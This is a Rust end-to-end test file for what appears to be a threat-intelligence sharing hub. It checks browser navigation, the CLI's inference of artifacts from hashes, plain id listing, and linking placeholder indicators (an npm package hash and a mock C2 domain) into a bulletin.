            "agent_bin": isac_e2e::bin_dir().join("member-agent"),
            "publisher": alice,
        })
        .to_string(),
    )
    .unwrap();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("browser/navigations.py");
    let out = Command::new("python3")
        .arg(&script)
        .arg(&config)
        .output()
        .expect("python3");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        out.status.success(),
        "browser script failed:\n{stdout}\n{stderr}\n--- carol-run.log\n{}",
        read(&log)
    );
    for step in [
        "ok: the feed, five filter variants and one more feed load all completed",
        "ok: an item page after six feed loads completed",
        "ok: twenty more navigations completed",
        "ok: a load after going back and forward completed",
        "ok: the open page still receives live items",
        "ok: a revised item shows once, marked updated, in the feed and in search",
        "ALL OK",
    ] {
        assert!(stdout.contains(step), "missing `{step}` in:\n{stdout}");
    }
    drop(procs);
    hub.terminate();
}

/// Issue 22's CLI items: `publish --sha256 ... --purl ...` without `--kind`
/// is an artifact (the package it came from), and `list --ids` / `search
/// --ids` print ids plainly, one per line, so they feed `bulletin --related`.
#[test]
fn cli_infers_an_artifact_from_a_hash_and_lists_ids_for_bulletin_related() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("hub");
    let hub = HubProcess::start(&data, "127.0.0.1:0");
    let alice = tmp.path().join("alice");
    enroll(
        &data,
        &hub,
        "alice-bank",
        "Alice Bank",
        "coordinator",
        &alice,
    );
    let hash = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
    publish(
        &alice,
        &[
            "--sha256",
            hash,
            "--purl",
            "pkg:npm/evil-pkg@1.0.0",
            "--tlp",
            "green",
            "--title",
            "tarball of evil-pkg",
        ],
    );
    publish(
        &alice,
        &[
            "--domain",
            "c2.ids.example",
            "--tlp",
            "green",
            "--title",
            "c2",
        ],
    );
    let jsonl = tmp.path().join("alice.jsonl");
    let (ok, _, err) = run(agent(&alice).args(["sync", "--jsonl", jsonl.to_str().unwrap()]));
    assert!(ok, "{err}");
    let (ok, out, err) = run(agent(&alice).args(["list", "--json"]));
    assert!(ok, "{err}");
    let held: Vec<serde_json::Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let artifact = held
        .iter()
        .find(|i| i["value"] == hash)
        .unwrap_or_else(|| panic!("the hash is not held: {out}"));
    assert_eq!(artifact["kind"], "artifact", "{out}");

    // Ids, one per line, nothing else.
    let (ok, ids, err) = run(agent(&alice).args(["list", "--ids"]));
    assert!(ok, "{err}");
    let ids: Vec<&str> = ids.lines().collect();
    assert_eq!(ids.len(), 2, "{ids:?}");
    for i in &held {
        assert!(ids.contains(&i["id"].as_str().unwrap()), "{ids:?}");
    }
    let (ok, found, err) = run(agent(&alice).args(["search", "c2.ids.example", "--ids"]));
    assert!(ok, "{err}");
    let c2 = held
        .iter()
        .find(|i| i["value"] == "c2.ids.example")
        .unwrap();
    assert_eq!(found.trim(), c2["id"].as_str().unwrap());
    let (ok, _, err) = run(agent(&alice).args(["list", "--ids", "--json"]));
    assert!(!ok && err.contains("--json"), "{err}");

    // Straight into bulletin --related.
    let body = tmp.path().join("body.md");
    std::fs::write(&body, "Both indicators belong to one campaign.").unwrap();
    let mut cmd = agent(&alice);
    cmd.args([
        "bulletin", "--title", "campaign", "--tlp", "green", "--body",
    ])
    .arg(&body);
    for id in &ids {
        cmd.args(["--related", id]);
    }
    let (ok, _, err) = run(&mut cmd);
    assert!(ok, "bulletin --related with listed ids: {err}");
    hub.terminate();
}
